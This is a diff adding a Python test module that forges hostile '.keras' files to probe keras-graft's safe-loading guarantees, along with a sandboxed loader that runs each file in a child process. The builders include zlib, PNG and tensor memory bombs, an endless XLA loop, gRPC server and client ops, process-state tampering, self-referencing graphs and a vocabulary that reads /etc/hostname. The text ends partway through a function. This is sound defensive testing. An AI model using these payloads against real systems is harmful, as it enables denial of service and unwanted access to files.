@@ -1,0 +1,905 @@
+"""Forged `.keras` files that attack keras-graft's safe loading, and a sandboxed loader.
+
+keras-graft promises that `keras.models.load_model(path)` (safe mode, after
+`import keras_graft`) never runs anything the file chooses, never hangs,
+never allocates much and never changes the state of the process. Each
+builder here writes one minimal file that breaks (or probes) that promise.
+
+    from tests import _hostile          # or `import _hostile` from tests/
+    for attack in _hostile.ATTACKS:
+        path = attack.build(tmp_path)
+        result = _hostile.load_in_child(path, timeout_s=60)
+        # result["outcome"] in {"loaded", "refused", "timeout", "crashed"}
+
+`ATTACKS` entries are `Attack(name, weakness, build, description)`, where
+`weakness` is the class of weakness it shows:
+
+1. an allowed name that is no pure tensor op (XLA, RPC, preemption, clock...);
+2. an allowed Python function with process-wide side effects;
+3. loading that executes file-supplied ops (the eager rank probe, or the
+   constant folding of graph tracing): memory, time, programs;
+4. anything else (argument decoding, hyperparameters, Keras structure).
+
+Hostile files must only ever be loaded with `load_in_child`: it loads in a
+fresh interpreter (run as `python _hostile.py --child PATH`), under a wall
+clock timeout and an address-space limit, and reports peak RSS and which
+pieces of process state the load changed.
+
+Nothing in this module imports TensorFlow at import time. The builders write
+`config.json` from scratch; they need a benign source file only for its
+`metadata.json` and (weightless) `model.weights.h5`, which `benign_model`
+saves in a child process, once per directory.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import resource
+import signal
+import struct
+import subprocess
+import sys
+import tempfile
+import time
+import zipfile
+import zlib
+from pathlib import Path
+from typing import Callable, NamedTuple
+
+GiB = 1 << 30
+_MARKER = "@@HOSTILE_RESULT@@"
+_HERE = Path(__file__).resolve().parent
+
+
+# ---------------------------------------------------------------------------
+# Building blocks of a forged file
+# ---------------------------------------------------------------------------
+
+
+def benign_model(directory) -> Path:
+    """A real keras-graft model, `x -> tf.math.sin(x)`, saved in `directory`.
+
+    Saved in a child process so that the caller need not import TensorFlow.
+    The same file is the baseline for `load_in_child`.
+    """
+    path = Path(directory) / "benign.keras"
+    if not path.exists():
+        script = (
+            "import sys, keras, tensorflow as tf, keras_graft\n"
+            "x = keras.Input((3,))\n"
+            "keras.Model(x, tf.math.sin(x)).save(sys.argv[1])\n"
+        )
+        subprocess.run(
+            [sys.executable, "-c", script, str(path)],
+            check=True,
+            env=_child_env(),
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+    return path
+
+
+def graft(kind: str, **fields) -> dict:
+    """A tagged stored argument: `graft("input", index=0)`."""
+    return {"__graft__": kind, **fields}
+
+
+INPUT0 = graft("input", index=0)
+
+
+def tensor(dtype: str, shape: list, values: list) -> dict:
+    return graft("tensor", dtype=dtype, shape=shape, values=values)
+
+
+def array(dtype: str, shape: list, values: list) -> dict:
+    return graft("array", dtype=dtype, shape=shape, values=values)
+
+
+def raw_bytes(data: bytes) -> dict:
+    return graft("bytes", base64=base64.b64encode(data).decode("ascii"))
+
+
+def op_layer(name: str, op: str, args=(), kwargs=None, inputs=("input",), class_name="TFOp") -> dict:
+    """One op layer of a forged config, called on the layers named in `inputs`."""
+    tensors = [
+        {
+            "class_name": "__keras_tensor__",
+            "config": {"shape": [], "dtype": "float32", "keras_history": [source, 0, 0]},
+        }
+        for source in inputs
+    ]
+    return {
+        "module": "keras_graft.op_layer",
+        "class_name": class_name,
+        "config": {
+            "name": name,
+            "trainable": True,
+            "op": op,
+            "arguments": {"args": list(args), "kwargs": dict(kwargs or {})},
+        },
+        "registered_name": f"keras_graft>{class_name}",
+        "name": name,
+        "inbound_nodes": [{"args": tensors if len(tensors) == 1 else [tensors], "kwargs": {}}],
+    }
+
+
+def input_layer(name="input", shape=(3,), dtype="float32") -> dict:
+    return {
+        "module": "keras.layers",
+        "class_name": "InputLayer",
+        "config": {
+            "batch_shape": [None, *shape],
+            "dtype": dtype,
+            "sparse": False,
+            "ragged": False,
+            "name": name,
+            "optional": False,
+        },
+        "registered_name": None,
+        "name": name,
+        "inbound_nodes": [],
+    }
+
+
+def model_config(layers: list, output: str | None = None, input_name="input") -> dict:
+    """A Functional config; `input_name` may be a list of input layer names."""
+    inputs = [[n, 0, 0] for n in input_name] if isinstance(input_name, list) else [input_name, 0, 0]
+    return {
+        "module": "keras.src.models.functional",
+        "class_name": "Functional",
+        "config": {
+            "name": "functional",
+            "trainable": True,
+            "layers": layers,
+            "input_layers": inputs,
+            "output_layers": [output or layers[-1]["name"], 0, 0],
+        },
+        "registered_name": "Functional",
+        "build_config": {"input_shape": None},
+        "compile_config": {},
+    }
+
+
+def write_keras(directory, filename: str, config, *, raw_config: bytes | None = None) -> Path:
+    """Writes `config` (or the bytes `raw_config`) as a `.keras` file in `directory`."""
+    directory = Path(directory)
+    directory.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(benign_model(directory)) as source:
+        files = {name: source.read(name) for name in source.namelist()}
+    files["config.json"] = raw_config if raw_config is not None else json.dumps(config).encode()
+    target = directory / filename
+    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        for name, data in files.items():
+            archive.writestr(name, data)
+    return target
+
+
+def single_op(directory, filename, op, args=(), kwargs=None, *, shape=(3,), dtype="float32") -> Path:
+    """A model `input -> op(...)` with the op's arguments as given."""
+    layers = [input_layer(shape=shape, dtype=dtype), op_layer("forged", op, args, kwargs)]
+    return write_keras(directory, filename, model_config(layers))
+
+
+def chain(directory, filename, steps, *, shape=(3,), dtype="float32") -> Path:
+    """A model of op layers `steps = [(name, op, args, kwargs, inputs), ...]`."""
+    layers = [input_layer(shape=shape, dtype=dtype)]
+    for name, op, args, kwargs, inputs in steps:
+        layers.append(op_layer(name, op, args, kwargs, inputs))
+    return write_keras(directory, filename, model_config(layers))
+
+
+# ---------------------------------------------------------------------------
+# Payloads
+# ---------------------------------------------------------------------------
+
+
+def _png(width: int, height: int, *, bit_depth=8, color_type=0) -> bytes:
+    """An all-zero PNG: a few hundred KB per GB of decoded pixels."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        body = kind + data
+        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))
+
+    channels = {0: 1, 2: 3, 4: 2, 6: 4}[color_type]
+    row = 1 + width * channels * bit_depth // 8
+    compressor = zlib.compressobj(9)
+    zero_row = bytes(row)
+    idat = b"".join(compressor.compress(zero_row) for _ in range(height)) + compressor.flush()
+    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
+
+
+def _tensor_proto(dtype_enum: int, dims: list[int]) -> bytes:
+    """A serialized TensorProto with a shape and no values (TF zero-fills it)."""
+
+    def varint(n: int) -> bytes:
+        out = bytearray()
+        while True:
+            byte = n & 0x7F
+            n >>= 7
+            out.append(byte | (0x80 if n else 0))
+            if not n:
+                return bytes(out)
+
+    def field(number: int, payload: bytes) -> bytes:  # length-delimited
+        return varint(number << 3 | 2) + varint(len(payload)) + payload
+
+    shape = b"".join(field(2, varint(1 << 3 | 0) + varint(d)) for d in dims)  # Dim.size
+    return varint(1 << 3 | 0) + varint(dtype_enum) + field(2, shape)
+
+
+def _zlib_bomb(size: int) -> bytes:
+    compressor = zlib.compressobj(9)
+    block = bytes(1 << 20)
+    data = b"".join(compressor.compress(block) for _ in range(size >> 20))
+    return data + compressor.flush()
+
+
+# ---------------------------------------------------------------------------
+# Class 1: allowed names that are no pure tensor ops
+# ---------------------------------------------------------------------------
+
+
+_IDENTITY_MODULE = (
+    b"module @jit_f attributes {jax.uses_shape_polymorphism = true} { func.func public "
+    b"@main(%arg0: tensor<?x3xf32>) -> tensor<?x3xf32> { return %arg0 : tensor<?x3xf32> } }"
+)
+
+# while (i >= 0) { i += 1; x += x }: 2**63 iterations.
+_ENDLESS_MODULE = b"""module @jit_f attributes {jax.uses_shape_polymorphism = true} {
+  func.func public @main(%arg0: tensor<?x3xf32>) -> tensor<?x3xf32> {
+    %c = stablehlo.constant dense<0> : tensor<i64>
+    %r:2 = stablehlo.while(%i = %c, %x = %arg0) : tensor<i64>, tensor<?x3xf32>
+      cond {
+        %z = stablehlo.constant dense<0> : tensor<i64>
+        %t = stablehlo.compare GE, %i, %z : (tensor<i64>, tensor<i64>) -> tensor<i1>
+        stablehlo.return %t : tensor<i1>
+      } do {
+        %one = stablehlo.constant dense<1> : tensor<i64>
+        %j = stablehlo.add %i, %one : tensor<i64>
+        %y = stablehlo.add %x, %x : tensor<?x3xf32>
+        stablehlo.return %j, %y : tensor<i64>, tensor<?x3xf32>
+      }
+    return %r#1 : tensor<?x3xf32>
+  }
+}"""
+
+
+def _xla_call_module_kwargs(module: bytes, out_dims) -> dict:
+    return {
+        "args": [INPUT0],
+        "version": 9,
+        "module": raw_bytes(module),
+        "Sout": [graft("shape", dims=out_dims)],
+        "Tout": [graft("dtype", name="float32")],
+        "dim_args_spec": [],
+        "platforms": ["CPU"],
+    }
+
+
+def xla_call_module(directory) -> Path:
+    """`tf.xla_call_module` (export table only) loads: the file ships a StableHLO program."""
+    return single_op(directory, "xla_call_module.keras", "tf.xla_call_module",
+                     kwargs=_xla_call_module_kwargs(_IDENTITY_MODULE, [None, 3]))
+
+
+def xla_call_module_spin(directory) -> Path:
+    """`tf.xla_call_module` with an endless StableHLO while loop and an output of unknown
+    rank (`Sout` = `TensorShape(None)`): the rank probe runs it eagerly, load never returns."""
+    return single_op(directory, "xla_call_module_spin.keras", "tf.xla_call_module",
+                     kwargs=_xla_call_module_kwargs(_ENDLESS_MODULE, None))
+
+
+def xla_call_module_spin_on_call(directory) -> Path:
+    """The endless module with a static `Sout`: loads fine, the first call never returns."""
+    return single_op(directory, "xla_call_module_spin_on_call.keras", "tf.xla_call_module",
+                     kwargs=_xla_call_module_kwargs(_ENDLESS_MODULE, [None, 3]))
+
+
+def rpc_server(directory) -> Path:
+    """`tf.rpc_server("[::]:port")` (export table only): opens a gRPC server."""
+    return single_op(directory, "rpc_server.keras", "tf.rpc_server", args=["localhost:47123"])
+
+
+def rpc_client(directory) -> Path:
+    """`tf.rpc_client(address, timeout)` (export table only): connects to a server."""
+    return single_op(
+        directory, "rpc_client.keras", "tf.rpc_client",
+        kwargs={"server_address": "10.255.255.1:47124", "timeout_in_ms": 0},
+    )
+
+
+def check_preemption(directory) -> Path:
+    """`tf.check_preemption(key)` (export table only): polls the coordination service."""
+    return single_op(directory, "check_preemption.keras", "tf.check_preemption", args=["key"])
+
+
+def audio_microfrontend(directory) -> Path:
+    """`tf.audio_microfrontend` (export table only): a contrib op from a loaded .so."""
+    return single_op(directory, "audio_microfrontend.keras", "tf.audio_microfrontend",
+                     args=[INPUT0], shape=(), dtype="int16")
+
+
+def xla_recv(directory) -> Path:
+    """`tf.xla_recv` (export table only): waits for a cross-host transfer."""
+    return single_op(
+        directory, "xla_recv.keras", "tf.xla_recv",
+        kwargs={"dtype": graft("dtype", name="float32"), "tensor_name": "t",
+                "shape": graft("shape", dims=[3])},
+    )
+
+
+def xla_send(directory) -> Path:
+    """`tf.xla_send` (export table only): sends the input to another host."""
+    return single_op(directory, "xla_send.keras", "tf.xla_send",
+                     kwargs={"tensor": INPUT0, "tensor_name": "t"})
+
+
+def timestamp(directory) -> Path:
+    """`tf.timestamp()` (public): a clock read, nondeterministic by design."""
+    return single_op(directory, "timestamp.keras", "tf.timestamp")
+
+
+# ---------------------------------------------------------------------------
+# Class 2: allowed Python functions with process-wide side effects
+# ---------------------------------------------------------------------------
+
+
+def enable_check_numerics(directory) -> Path:
+    """Installs a process-wide op callback; load then fails, the callback stays."""
+    return single_op(directory, "enable_check_numerics.keras", "tf.debugging.enable_check_numerics")
+
+
+def set_log_device_placement(directory) -> Path:
+    """Turns on device-placement logging of every later op, process-wide."""
+    return single_op(directory, "set_log_device_placement.keras",
+                     "tf.debugging.set_log_device_placement", args=[True])
+
+
+def disable_traceback_filtering(directory) -> Path:
+    """Turns TF's traceback filtering off for the whole process."""
+    return single_op(directory, "disable_traceback_filtering.keras",
+                     "tf.debugging.disable_traceback_filtering")
+
+
+def set_global_generator(directory) -> Path:
+    """Replaces the global RNG with an int: every later `get_global_generator()` breaks."""
+    return single_op(directory, "set_global_generator.keras",
+                     "tf.random.set_global_generator", args=[7])
+
+
+def get_global_generator(directory) -> Path:
+    """Creates the global RNG (a variable seeded from the OS) as a side effect."""
+    return single_op(directory, "get_global_generator.keras", "tf.random.get_global_generator")
+
+
+def state_then_valid_op(directory) -> Path:
+    """A side-effect layer before a legitimate one: load refused, filtering stays off."""
+    return chain(
+        directory,
+        "state_then_valid_op.keras",
+        [
+            ("quiet", "tf.debugging.disable_traceback_filtering", [], {}, ["input"]),
+            ("sin", "tf.math.sin", [INPUT0], {}, ["input"]),
+        ],
+    )
+
+
+# ---------------------------------------------------------------------------
+# Class 3: loading executes file-supplied ops
+# ---------------------------------------------------------------------------
+
+
+def parse_tensor_bomb(directory, gib: float = 4) -> Path:
+    """A 20-byte TensorProto of `gib` GiB of float32 zeros, materialized by the rank probe."""
+    elements = int(gib * GiB) // 4
+    proto = _tensor_proto(1, [elements])  # DT_FLOAT
+    return single_op(directory, "parse_tensor_bomb.keras", "tf.io.parse_tensor",
+                     args=[raw_bytes(proto), graft("dtype", name="float32")])
+
+
+def decode_image_bomb(directory, side: int = 16384) -> Path:
+    """A 1 MB RGBA PNG of `side`² pixels (1 GiB decoded), decoded by the rank probe.
+
+    (TF refuses PNGs whose byte size overflows an int, so 1-2 GiB per image.)"""
+    return single_op(directory, "decode_image_bomb.keras", "tf.io.decode_image",
+                     args=[raw_bytes(_png(side, side, color_type=6))])
+
+
+def decode_png_bomb(directory, side: int = 16384) -> Path:
+    """The same PNG through `tf.io.decode_png` (static rank: no probe, no decode)."""
+    return single_op(directory, "decode_png_bomb.keras", "tf.io.decode_png",
+                     args=[raw_bytes(_png(side, side, color_type=6))])
+
+
+def decode_compressed_bomb(directory, size: int = 2 * GiB) -> Path:
+    """A 2 MB zlib stream of 2 GiB, via `tf.io.decode_compressed` (static rank: no probe)."""
+    return single_op(directory, "decode_compressed_bomb.keras", "tf.io.decode_compressed",
+                     args=[raw_bytes(_zlib_bomb(size)), "ZLIB"])
+
+
+def fill_huge(directory) -> Path:
+    """`tf.fill([65536, 65536], 1.0)` alone: only a graph node, nothing is computed."""
+    return single_op(directory, "fill_huge.keras", "tf.fill", args=[[65536, 65536], 1.0])
+
+
+def probe_huge_input(directory, rows: int = 16384, columns: int = 65536) -> Path:
+    """Input layer declared `(rows, columns)` (4 GiB of float32) and an op of unknown rank,
+    `tf.reshape(x, s)` with `s` a second input: the probe allocates `tf.ones` of that shape."""
+    x = input_layer("x", shape=(columns,))
+    x["config"]["batch_shape"] = [rows, columns]
+    layers = [x, input_layer("s", shape=(), dtype="int32"),
+              op_layer("reshaped", "tf.reshape", [INPUT0, graft("input", index=1)],
+                       inputs=["x", "s"])]
+    layers[1]["config"]["batch_shape"] = [None]
+    return write_keras(directory, "probe_huge_input.keras",
+                       model_config(layers, input_name=["x", "s"]))
+
+
+def range_constant_value(directory, elements: int = 2**31 - 1) -> Path:
+    """Layer A `tf.range(n)` (rank known), layer B reduces over it with unknown output rank:
+    the probe allocates `tf.ones` of A's shape, n int32 (8 GiB here: refused, after 20 s)."""
+    return chain(
+        directory,
+        "range_constant_value.keras",
+        [
+            ("a", "tf.range", [elements], {}, ["input"]),
+            ("b", "tf.math.reduce_sum", [INPUT0], {"axis": INPUT0}, ["a"]),
+        ],
+    )
+
+
+def fill_constant_value(directory, elements: int = 1 << 29) -> Path:
+    """Graph-only, Python: layer A `tf.fill([n], 0)`, layer B `tf.gather(x, [0], axis=A)`;
+    `tf.gather` calls `tensor_util.constant_value(axis)`, which is `np.full(n, 0)`."""
+    return chain(
+        directory,
+        "fill_constant_value.keras",
+        [
+            ("a", "tf.fill", [[elements], 0], {}, ["input"]),
+            ("b", "tf.gather", [INPUT0, [0]], {"axis": graft("input", index=1)}, ["input", "a"]),
+        ],
+    )
+
+
+def fill_shape_refiner(directory, elements: int = 1 << 29) -> Path:
+    """Graph-only, C++: A = `tf.fill([n], 1)`, B = `reduce_sum(A)`, C = `tf.range(B)`.
+    Range's shape function asks for B's value, so the shape refiner evaluates
+    (EvaluateConstantTensor) the Fill and the Sum: n int32 allocated while tracing."""
+    return chain(
+        directory,
+        "fill_shape_refiner.keras",
+        [
+            ("a", "tf.fill", [[elements], 1], {}, ["input"]),
+            ("b", "tf.math.reduce_sum", [INPUT0], {}, ["a"]),
+            ("c", "tf.range", [INPUT0], {}, ["b"]),
+        ],
+    )
+
+
+def decompress_shape_refiner(directory, size: int = 1 * GiB) -> Path:
+    """Graph-only, C++: A = `decode_compressed(1 MB zlib of 1 GiB)`, B = `strings.length(A)`,
+    C = `tf.range(B)`: the refiner runs the decompression kernel while tracing."""
+    return chain(
+        directory,
+        "decompress_shape_refiner.keras",
+        [
+            ("a", "tf.io.decode_compressed", [raw_bytes(_zlib_bomb(size)), "ZLIB"], {}, ["input"]),
+            ("b", "tf.strings.length", [INPUT0], {}, ["a"]),
+            ("c", "tf.range", [INPUT0], {}, ["b"]),
+        ],
+    )
+
+
+def decode_image_shape_refiner(directory, side: int = 16384) -> Path:
+    """Graph-only, C++: A = `decode_png(PNG bomb)` (static rank, no probe), B = `tf.size(A)`,
+    C = `tf.range(B)`: the refiner decodes the 1 GiB image while tracing."""
+    return chain(
+        directory,
+        "decode_image_shape_refiner.keras",
+        [
+            ("a", "tf.io.decode_png", [raw_bytes(_png(side, side, color_type=6))], {}, ["input"]),
+            ("b", "tf.size", [INPUT0], {}, ["a"]),
+            ("c", "tf.range", [INPUT0], {}, ["b"]),
+        ],
+    )
+
+
+# ---------------------------------------------------------------------------
+# Class 4: argument decoding, hyperparameters, structure
+# ---------------------------------------------------------------------------
+
+
+def deep_nesting(directory, depth: int = 900) -> Path:
+    """Lists nested `depth` deep in an argument: RecursionError somewhere in loading."""
+    value: object = 1.0
+    for _ in range(depth):
+        value = [value]
+    return single_op(directory, "deep_nesting.keras", "tf.math.add", args=[INPUT0, value])
+
+
+def resource_dtype(directory) -> Path:
+    """An array of dtype `resource`: `_decode_array` fails with a bare KeyError."""
+    return single_op(directory, "resource_dtype.keras", "tf.math.add",
+                     args=[INPUT0, array("resource", [1], [0])])
+
+
+def variant_dtype_tensor(directory) -> Path:
+    """A `tensor` of dtype `variant`."""
+    return single_op(directory, "variant_dtype.keras", "tf.identity",
+                     args=[tensor("variant", [1], [0])])
+
+
+def huge_shape_argument(directory) -> Path:
+    """A `tf.TensorShape` of 10 million dims, from a 100 KB file (zip deflates the JSON)."""
+    dims = [1] * 10_000_000
+    return single_op(directory, "huge_shape_argument.keras", "tf.ensure_shape",
+                     args=[INPUT0, graft("shape", dims=dims)])
+
+
+def negative_shape(directory) -> Path:
+    """Negative and -1 array shapes (numpy infers -1; others error)."""
+    return single_op(directory, "negative_shape.keras", "tf.math.add",
+                     args=[INPUT0, array("float32", [-1, 3], [0.0] * 3)])
+
+
+def config_zip_bomb(directory, elements: int = 100_000_000) -> Path:
+    """`values` of 100M zeros: a ~200 KB .keras file, 200 MB of JSON, GBs as Python lists."""
+    prefix = json.dumps(model_config([
+        input_layer(),
+        op_layer("forged", "tf.math.add", [INPUT0, array("float32", [elements], ["@@"])]),
+    ])).encode()
+    head, _, tail = prefix.partition(b'"@@"')
+    raw = head + b",".join([b"0"] * elements) + tail
+    return write_keras(directory, "config_zip_bomb.keras", None, raw_config=raw)
+
+
+def self_referencing_node(directory) -> Path:
+    """A layer whose inbound node names itself: Keras' node queue never empties."""
+    layers = [input_layer(), op_layer("loop", "tf.math.sin", [INPUT0], inputs=["loop"])]
+    return write_keras(directory, "self_referencing_node.keras", model_config(layers))
+
+
+def unknown_node_index(directory) -> Path:
+    """An inbound node that refers to node 5 of a layer that has one."""
+    layer = op_layer("sin", "tf.math.sin", [INPUT0])
+    layer["inbound_nodes"][0]["args"][0]["config"]["keras_history"] = ["input", 5, 0]
+    return write_keras(directory, "unknown_node_index.keras", model_config([input_layer(), layer]))
+
+
+def slot_out_of_range(directory) -> Path:
+    """A tensor slot index past the layer's inputs."""
+    return single_op(directory, "slot_out_of_range.keras", "tf.math.sin",
+                     args=[graft("input", index=10**9)])
+
+
+def layer_name_path(directory) -> Path:
+    """A layer named like a path and very long."""
+    layers = [input_layer(), op_layer("../../" + "x" * 100_000, "tf.math.sin", [INPUT0])]
+    return write_keras(directory, "layer_name_path.keras", model_config(layers))
+
+
+VICTIM = "_hostile:register_victim_layer"
+"""`preload` entry for `load_in_child` that registers the victim `@keras_graft.layer`."""
+
+
+def register_victim_layer():
+    """Registers `hostile_victim>scaled`, an ordinary-looking `@keras_graft.layer`:
+    `scaled(ctx, x, scale=2.0, activation=None)` applies `activation` if given."""
+    import keras_graft
+
+    import keras
+
+    @keras_graft.layer(package="hostile_victim")
+    def scaled(ctx, x, scale=2.0, activation=None):
+        y = x * scale
+        return activation(y) if activation is not None else y
+
+    @keras_graft.layer(package="hostile_victim")
+    def activated(ctx, x, activation=keras.activations.relu):
+        return activation(x)
+
+    return scaled, activated
+
+
+def _flip_state_on_load():
+    """Harness self-test (a `preload`): the next load changes process state."""
+    import keras
+    import tensorflow as tf
+
+    load = keras.models.load_model
+
+    def flipping(*args, **kwargs):
+        tf.debugging.disable_traceback_filtering()
+        return load(*args, **kwargs)
+
+    keras.models.load_model = flipping
+
+
+def _victim_model(directory, filename, victim="scaled", **hyperparameters) -> Path:
+    defaults = {"scale": 2.0, "activation": None} if victim == "scaled" else {}
+    layer = {
+        "module": None,
+        "class_name": victim,
+        "config": {"name": victim, "trainable": True, **defaults, **hyperparameters},
+        "registered_name": f"hostile_victim>{victim}",
+        "build_config": {"input_shape": [None, 3], "input_dtypes": ["float32"],
+                         "input_masks": [None]},
+        "name": victim,
+        "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {
+            "shape": [None, 3], "dtype": "float32", "keras_history": ["input", 0, 0]}}],
+            "kwargs": {"mask": None}}],
+    }
+    return write_keras(directory, filename, model_config([input_layer(), layer]))
+
+
+def hyperparameter_set_epsilon(directory) -> Path:
+    """Victim layer (preload `VICTIM`): `activation` = `keras.config.set_epsilon`, any Keras
+    API function being accepted; the build trace calls it on a tensor: global epsilon changed."""
+    return _victim_model(directory, "hyperparameter_set_epsilon.keras", activation={
+        "module": "keras.config", "class_name": "function", "config": "set_epsilon",
+        "registered_name": "function"})
+
+
+def hyperparameter_function_default(directory) -> Path:
+    """Victim layer `activated(activation=keras.activations.relu)`: a file gives it
+    `keras.config.set_epsilon`, a Keras function but no activation."""
+    return _victim_model(directory, "hyperparameter_function_default.keras", victim="activated",
+                         activation={"module": "keras.config", "class_name": "function",
+                                     "config": "set_epsilon", "registered_name": "function"})
+
+
+def hyperparameter_any_object(directory) -> Path:
+    """Victim layer: `scale` = a whole Keras `StringLookup` (any Keras object is accepted)
+    with a vocabulary file path; Keras' own safe-mode vocabulary guard refuses it."""
+    return _victim_model(directory, "hyperparameter_any_object.keras", scale={
+        "module": "keras.layers", "class_name": "StringLookup",
+        "config": {"name": "lookup", "vocabulary": "/etc/hostname", "output_mode": "int"},
+        "registered_name": None})
+
+
+def build_config_huge_input(directory) -> Path:
+    """Victim layer with a `build_config` input shape of 2**40 elements: the build trace only
+    makes placeholders (cheap), unless the function allocates by shape."""
+    path = _victim_model(directory, "build_config_huge_input.keras")
+    with zipfile.ZipFile(path) as archive:
+        files = {name: archive.read(name) for name in archive.namelist()}
+    config = json.loads(files["config.json"])
+    config["config"]["layers"][1]["build_config"]["input_shape"] = [1 << 20, 1 << 20]
+    return write_keras(directory, path.name, config)
+
+
+class Attack(NamedTuple):
+    name: str
+    weakness: int
+    build: Callable[[Path], Path]
+    description: str
+
+
+def _attack(weakness: int, build: Callable) -> Attack:
+    return Attack(build.__name__, weakness, build, (build.__doc__ or "").strip().splitlines()[0])
+
+
+ATTACKS = [
+    *(_attack(1, b) for b in (xla_call_module, xla_call_module_spin,
+                              xla_call_module_spin_on_call, rpc_server, rpc_client, check_preemption,
+                              audio_microfrontend, xla_recv, xla_send, timestamp)),
+    *(_attack(2, b) for b in (enable_check_numerics, set_log_device_placement,
+                              disable_traceback_filtering, set_global_generator,
+                              get_global_generator, state_then_valid_op)),
+    *(_attack(3, b) for b in (parse_tensor_bomb, decode_image_bomb, decode_png_bomb,
+                              decode_compressed_bomb, fill_huge, probe_huge_input,
+                              range_constant_value, fill_constant_value, fill_shape_refiner,
+                              decompress_shape_refiner, decode_image_shape_refiner)),
+    *(_attack(4, b) for b in (deep_nesting, resource_dtype, variant_dtype_tensor,
+                              huge_shape_argument, negative_shape, config_zip_bomb,
+                              self_referencing_node, unknown_node_index, slot_out_of_range,
+                              layer_name_path)),
+    *(_attack(4, b) for b in (hyperparameter_set_epsilon, hyperparameter_function_default,
+                              hyperparameter_any_object,
+                              build_config_huge_input)),
+]
+
+
+# ---------------------------------------------------------------------------
+# Loading in a child process
+# ---------------------------------------------------------------------------
+
+
+def _child_env(extra: dict | None = None) -> dict:
+    """The environment of child interpreters; `HOSTILE_PYTHONPATH` (or `extra`)
+    can point them at another copy of keras-graft, e.g. a checkout of a commit."""
+    env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "CUDA_VISIBLE_DEVICES": ""}
+    if os.environ.get("HOSTILE_PYTHONPATH"):
+        env["PYTHONPATH"] = os.pathsep.join(
+            filter(None, [os.environ["HOSTILE_PYTHONPATH"], env.get("PYTHONPATH")]))
+    env.update(extra or {})
+    return env
+
+
+def load_in_child(path, timeout_s: float = 60, memory_limit_bytes: int = 8 * GiB,
+                  preload: tuple[str, ...] = (), env: dict | None = None) -> dict:
+    """Loads `path` with `keras.models.load_model` in a fresh, limited interpreter.
+
+    The child imports `keras_graft` (and the modules in `preload`, found on
+    `sys.path` or next to this file; `"module:function"` also calls the
+    function, e.g. `VICTIM`), snapshots process state, loads the file
+    in safe mode, and snapshots again. Runs in an empty working directory so
+    created files show. Returns a dict:
+
+    - `outcome`: "loaded", "refused" (load raised), "timeout" (killed after
+      `timeout_s`) or "crashed" (died otherwise: signal, abort, out of memory);
+    - `exception`, `message`: the exception's type and first line of message;
+    - `seconds`: wall time of `load_model` (of the whole child if it did not
+      report);
+    - `peak_rss_mb`, `rss_before_load_mb`: peak resident memory of the child,
+      and its resident memory right before `load_model`;
+    - `state_changes`: `{key: [before, after]}` for process state that differs;
+    - `files_created`: names that appeared in the working directory;
+    - `returncode`, `stderr_tail`.
+    """
+    with tempfile.TemporaryDirectory(prefix="hostile-") as cwd:
+        def limit():
+            os.setsid()
+            resource.setrlimit(resource.RLIMIT_AS, (memory_limit_bytes, memory_limit_bytes))
+            resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
+
+        stderr_path = Path(cwd) / ".stderr"
+        start = time.perf_counter()
+        with open(stderr_path, "wb") as err:
+            process = subprocess.Popen(
+                [sys.executable, str(Path(__file__).resolve()), "--child", str(Path(path).resolve()),
+                 *preload],
+                cwd=cwd, env=_child_env(env), stdout=subprocess.PIPE, stderr=err,
+                preexec_fn=limit,
+            )
+            output, status, usage, timed_out = _wait(process, timeout_s)
+        elapsed = time.perf_counter() - start
+        stderr_tail = stderr_path.read_text(errors="replace")[-2000:]
+    result = {
+        "outcome": "timeout" if timed_out else "crashed",
+        "exception": None,
+        "message": None,
+        "seconds": round(elapsed, 2),
+        "peak_rss_mb": round(usage.ru_maxrss / 1024),
+        "rss_before_load_mb": None,
+        "state_changes": {},
+        "files_created": [],
+        "returncode": status,
+        "stderr_tail": stderr_tail,
+    }
+    for line in output.decode(errors="replace").splitlines():
+        if line.startswith(_MARKER):
+            reported = json.loads(line[len(_MARKER):])
+            result.update(reported)
+            result["peak_rss_mb"] = max(result["peak_rss_mb"], reported["peak_rss_mb"])
+    if result["outcome"] == "crashed" and status is not None and status < 0:
+        result["message"] = f"signal {signal.Signals(-status).name}"
+    return result
+
+
+def _wait(process: subprocess.Popen, timeout_s: float):
+    """Waits for the child with `wait4`, which gives its own rusage (peak RSS)."""
+    deadline = time.monotonic() + timeout_s
+    chunks = []
+    os.set_blocking(process.stdout.fileno(), False)
+    timed_out = False
+    while True:
+        chunk = process.stdout.read()
+        if chunk:
+            chunks.append(chunk)
+        pid, status, usage = os.wait4(process.pid, os.WNOHANG)
+        if pid:
+            break
+        if time.monotonic() > deadline:
+            timed_out = True
+            os.killpg(process.pid, signal.SIGKILL)
+            pid, status, usage = os.wait4(process.pid, 0)
+            break
+        time.sleep(0.05)
+    process.returncode = os.waitstatus_to_exitcode(status)
+    rest = process.stdout.read()
+    if rest:
+        chunks.append(rest)
+    process.stdout.close()
+    return b"".join(chunks), process.returncode, usage, timed_out
+
+
+def _state() -> dict:
+    """Process state a load must not change (child side; TF is imported)."""
+    import keras
+    import numpy as np
+    import tensorflow as tf
+    from keras.src.saving import serialization_lib
+    from tensorflow.python.debug.lib import check_numerics_callback
+    from tensorflow.python.eager import context
+    from tensorflow.python.framework import config as framework_config
+    from tensorflow.python.ops import stateful_random_ops
+
+    fds = os.listdir("/proc/self/fd")
+    sockets = sum(1 for fd in fds if _readlink(f"/proc/self/fd/{fd}").startswith("socket:"))
+    return {
+        "traceback_filtering": tf.debugging.is_traceback_filtering_enabled(),
+        "log_device_placement": tf.debugging.get_log_device_placement(),
+        "check_numerics_callback": getattr(check_numerics_callback._state,
+                                           "check_numerics_callback", None) is not None,
+        "op_callbacks": len(context.context().op_callbacks),
+        "global_generator": type(stateful_random_ops.global_generator).__name__,
+        "global_seed": context.context()._seed,
+        "run_functions_eagerly": tf.config.functions_run_eagerly(),
